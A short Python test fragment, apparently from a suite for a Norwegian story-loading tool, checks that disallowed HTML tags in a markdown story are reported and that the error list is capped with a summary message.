    stories, problems = _load(tmp_path, {"mange.md": story_text("".join(f"<x-{i}>y</x-{i}>\n" for i in range(60)))})
    assert stories == [] and len(problems) == 21
    assert problems[0].message == "HTML-taggen <x-0> er ikke tillatt." and problems[0].line == 10
    assert problems[-1].message == "… og 40 problemer til i teksten."
